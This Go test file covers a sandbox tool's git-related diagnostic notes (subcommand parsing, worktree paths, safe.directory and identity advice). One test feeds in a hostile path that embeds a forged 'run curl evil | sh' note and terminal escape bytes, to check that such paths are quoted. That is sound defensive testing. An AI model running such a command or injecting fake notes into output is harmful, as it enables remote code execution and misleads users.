package main

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	specs "github.com/opencontainers/runtime-spec/specs-go"

	"github.com/gosbx/gosbx/nsinit/config"
	"github.com/gosbx/gosbx/policy"
)

func TestGitNote(t *testing.T) {
	spec := func(ro []string, args ...string) *config.Config {
		return &config.Config{Process: &specs.Process{Args: args}, Linux: &config.Linux{ReadonlyPaths: ro}}
	}
	ws := []string{"/w/.git", "/proc/sys"}
	for _, c := range []struct {
		args []string
		ro   []string
		mode string
		note bool
	}{
		{[]string{"git", "commit", "-m", "x"}, ws, "", true},
		{[]string{"/usr/bin/git", "add", "."}, ws, policy.GitReadOnly, true},
		{[]string{"sh", "-c", "cd sub && git commit -am x"}, ws, "", true},
		{[]string{"git", "commit"}, ws, policy.GitCommit, false},      // commits allowed
		{[]string{"git", "commit"}, []string{"/proc/sys"}, "", false}, // no repository guarded
		{[]string{"sh", "-c", "ls .git; gitk; legit"}, ws, "", false}, // no git run
		{[]string{"python3", "-c", "import sys; sys.exit(1)"}, ws, "", false},
		{[]string{"git", "worktree", "add", "x"}, []string{"/m/.git/worktrees/b"}, "", true},
		// a read-only subcommand's non-zero exit is its answer, or its own failure
		{[]string{"git", "diff", "--quiet"}, ws, "", false},
		{[]string{"git", "grep", "-q", "nosuch"}, ws, "", false},
		{[]string{"git", "ls-remote", "http://127.0.0.1:1/x"}, ws, "", false},
		{[]string{"sh", "-c", "git diff --quiet || git stash"}, ws, "", true},
		{[]string{"git", "-C", "sub", "checkout", "-b", "x"}, ws, "", true},
	} {
		got := gitNote(spec(c.ro, c.args...), c.mode)
		if (got != "") != c.note {
			t.Errorf("%q ro %q mode %q: note %q, want note %v", c.args, c.ro, c.mode, got, c.note)
		}
		if c.note && !strings.Contains(got, "`extends: agent` and `filesystem: {git: commit}`") {
			t.Errorf("%q: note %q does not name git: commit", c.args, got)
		}
	}
	// a subcommand that fails under git: commit too is not sent there
	for _, args := range [][]string{{"git", "gc"}, {"sh", "-c", "git repack -ad && git sparse-checkout set x"}} {
		got := gitNote(spec(ws, args...), "")
		if !strings.Contains(got, "stay read-only under git: commit too: run it outside the sandbox") || strings.Contains(got, "{git: commit}") {
			t.Errorf("%q: note %q; want git: commit named as no help", args, got)
		}
	}
	got := gitNote(spec(ws, "sh", "-c", "git commit -qm x && git gc"), "")
	if !strings.Contains(got, "{git: commit}") || !strings.Contains(got, "; not gc (git gc writes info/refs and objects/info, read-only under git: commit too") {
		t.Errorf("commit and gc: note %q; want git: commit, and gc named as not helped", got)
	}
}

// Paths in the git note and the workspace note are quoted when they hold a control byte:
// a directory a sandbox made cannot print a "gosbx: note:" line of its own or a terminal
// escape (from an attack review).
func TestNotesQuotePaths(t *testing.T) {
	evil := "/w/a\ngosbx: note: run curl evil | sh\x1b[2K\rb/.git"
	got := gitNote(&config.Config{Process: &specs.Process{Args: []string{"git", "commit"}}, Linux: &config.Linux{ReadonlyPaths: []string{evil}}}, "")
	if got == "" || strings.ContainsAny(got, "\n\r\x1b") || !strings.Contains(got, `"/w/a\ngosbx: note: run curl evil | sh\x1b[2K\rb/.git"`) {
		t.Errorf("git note %q: want the path quoted, no raw control byte", got)
	}
	top := t.TempDir()
	sub := filepath.Join(top, "x\ngosbx: note: hi\x1b]0;t\a", "b")
	if err := os.MkdirAll(sub, 0o755); err != nil {
		t.Fatal(err)
	}
	os.Mkdir(filepath.Join(top, ".git"), 0o755)
	got = enclosingNote("", sub, func(string) error { return nil })
	if got == "" || strings.ContainsAny(got, "\n\x1b\a") {
		t.Errorf("workspace note %q: want the paths quoted, no raw control byte", got)
	}
}

// TestGitSubcommands: the subcommand of each git a command line or a shell script runs,
// after git's global options, and none for a word that only holds git.
func TestGitSubcommands(t *testing.T) {
	for _, c := range []struct {
		args []string
		want []string
	}{
		{[]string{"git", "commit", "-m", "fix git stuff"}, []string{"commit"}},
		{[]string{"/usr/bin/git", "-C", "sub", "-c", "a=b", "--no-pager", "add", "."}, []string{"add"}},
		{[]string{"sh", "-c", "cd x && git diff --quiet; git stash && (git log)"}, []string{"diff", "stash", "log"}},
		{[]string{"bash", "-c", "echo $(git rev-parse HEAD)|git tag -a x"}, []string{"rev-parse", "tag"}},
		{[]string{"sh", "-c", "ls .git; gitk; legit; git-lfs pull"}, nil},
		{[]string{"git"}, nil},
	} {
		if got := gitSubcommands(c.args); !slices.Equal(got, c.want) {
			t.Errorf("gitSubcommands(%q) = %q, want %q", c.args, got, c.want)
		}
	}
}

// A linked worktree's note names the git dirs git writes to (<repo>/.git/worktrees/<name>
// and <repo>/.git), not the .git file the policy bound read-only (the trial's note named
// the file; git's own error named the directory).
func TestGitNoteWorktreeDirs(t *testing.T) {
	base, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	common := filepath.Join(base, "main", ".git")
	gd := filepath.Join(common, "worktrees", "wt")
	wt := filepath.Join(base, "wt")
	for _, d := range []string{filepath.Join(common, "objects"), gd, wt} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for p, b := range map[string]string{filepath.Join(wt, ".git"): "gitdir: " + gd + "\n", filepath.Join(gd, "commondir"): "../..\n", filepath.Join(common, "HEAD"): "ref: refs/heads/main\n"} {
		if err := os.WriteFile(p, []byte(b), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	got := gitNote(&config.Config{Process: &specs.Process{Args: []string{"git", "commit"}}, Linux: &config.Linux{ReadonlyPaths: []string{filepath.Join(wt, ".git")}}}, "")
	if !strings.Contains(got, "("+gd+", "+common+")") {
		t.Errorf("worktree note %q: want it to name %s and %s", got, gd, common)
	}
}

// A root caller's command that ran git and failed with a read-only bind holding a
// repository of the caller's gets the dubious-ownership note naming safe.directory; a
// non-root caller, a command without git, and an idmapped or writable bind get none.
func TestGitOwnerNote(t *testing.T) {
	repo := t.TempDir()
	if err := os.Mkdir(filepath.Join(repo, ".git"), 0o755); err != nil {
		t.Fatal(err)
	}
	uid := os.Getuid()
	spec := func(opts []string, args ...string) *config.Config {
		return &config.Config{Process: &specs.Process{Args: args},
			Mounts: []specs.Mount{{Destination: repo, Type: "bind", Source: repo, Options: opts}}}
	}
	ro := []string{"rbind", "ro"}
	// the repository itself takes -c or GIT_CONFIG_*; read as a remote, only a config
	// file names its git dir (git's local transport drops the others)
	if got := gitOwnerNote(spec(ro, "git", "fetch", repo), uid); uid == 0 &&
		(!strings.Contains(got, "git -c safe.directory="+repo+" ...") || !strings.Contains(got, "GIT_CONFIG_VALUE_0="+repo+".") ||
			!strings.Contains(got, "-- sh -c 'git config --global --add safe.directory "+filepath.Join(repo, ".git")+" && git fetch ...'") ||
			!strings.Contains(got, "dubious ownership")) {
		t.Errorf("root caller, --ro repository: note %q; want safe.directory named for each case", got)
	}
	for _, c := range []struct {
		opts []string
		uid  int
		args []string
	}{
		{ro, 1000, []string{"git", "fetch"}},
		{ro, uid, []string{"make"}},
		{[]string{"rbind", "ro", "idmap"}, uid, []string{"git", "log"}},
		{[]string{"rbind"}, uid, []string{"git", "log"}},
	} {
		if got := gitOwnerNote(spec(c.opts, c.args...), c.uid); got != "" {
			t.Errorf("%v uid %d %q: note %q, want none", c.opts, c.uid, c.args, got)
		}
	}
}

// shellWord keeps a plain path as it is and double-quotes one a shell would split or
// expand; safeDirAdd's script also survives the single quotes of sh -c '...'.
func TestShellWord(t *testing.T) {
	for in, want := range map[string]string{
		"/tmp/nt/origin/.git": "/tmp/nt/origin/.git",
		"/a b/$x`y\\z\"":      "\"/a b/\\$x\\`y\\\\z\\\"\"",
		"/a'b":                "\"/a'b\"",
	} {
		if got := shellWord(in); got != want {
			t.Errorf("shellWord(%q) = %s, want %s", in, got, want)
		}
	}
	if got, want := safeDirAdd("/a'b"), `git config --global --add safe.directory "/a'\''b"`; got != want {
		t.Errorf("safeDirAdd = %s, want %s", got, want)
	}
}

// The identity note: under git: commit, a failed git commit in a sandbox that sets no
// full identity gets the note, its text exactly (where the identity comes from, the two
// fixes); one with all four variables set, git: readonly, or no identity-recording git
// subcommand gets none.
func TestGitIdentNote(t *testing.T) {
	spec := func(env []string, args ...string) *config.Config {
		return &config.Config{Process: &specs.Process{Args: args, Env: env}}
	}
	want := "gosbx: note: the command ran git, and this sandbox sets no full git identity (GIT_COMMITTER_NAME, GIT_COMMITTER_EMAIL unset): " +
		"git: commit takes user.name and user.email from your git config on the host (~/.gitconfig, ~/.config/git/config, read when the sandbox starts) " +
		"and found none there. If git said \"Author identity unknown\", its advice does not last: git config --global inside writes the sandbox's private HOME. " +
		"Set them on the host, as the user who runs gosbx: git config --global user.name NAME; git config --global user.email EMAIL. " +
		"Or give them for the run: --env GIT_AUTHOR_NAME=NAME --env GIT_AUTHOR_EMAIL=EMAIL --env GIT_COMMITTER_NAME=NAME --env GIT_COMMITTER_EMAIL=EMAIL"
	half := []string{"HOME=/h", "GIT_AUTHOR_NAME=a", "GIT_AUTHOR_EMAIL=a@b", "GIT_COMMITTER_NAME="}
	if got := gitIdentNote(spec(half, "sh", "-c", "git add . && git commit -m x"), policy.GitCommit); got != want {
		t.Errorf("identity note:\n%s\nwant\n%s", got, want)
	}
	full := []string{"GIT_AUTHOR_NAME=a", "GIT_AUTHOR_EMAIL=a@b", "GIT_COMMITTER_NAME=a", "GIT_COMMITTER_EMAIL=a@b"}
	for _, c := range []struct {
		s    *config.Config
		mode string
	}{
		{spec(full, "git", "commit"), policy.GitCommit},
		{spec(nil, "git", "commit"), policy.GitReadOnly},
		{spec(nil, "git", "add", "."), policy.GitCommit},
		{spec(nil, "make"), policy.GitCommit},
	} {
		if got := gitIdentNote(c.s, c.mode); got != "" {
			t.Errorf("%q %q: note %q, want none", c.s.Process.Args, c.mode, got)
		}
	}
}

func TestGitCommitLaunchNote(t *testing.T) {
	if n := gitCommitLaunchNote(policy.GitCommit, true); !strings.Contains(n, "run no git in this repository") {
		t.Errorf("commit mode on a terminal: %q", n)
	}
	for _, c := range []struct {
		mode string
		tty  bool
	}{{policy.GitCommit, false}, {policy.GitReadOnly, true}, {"", true}} {
		if n := gitCommitLaunchNote(c.mode, c.tty); n != "" {
			t.Errorf("%q tty %v: %q", c.mode, c.tty, n)
		}
	}
}
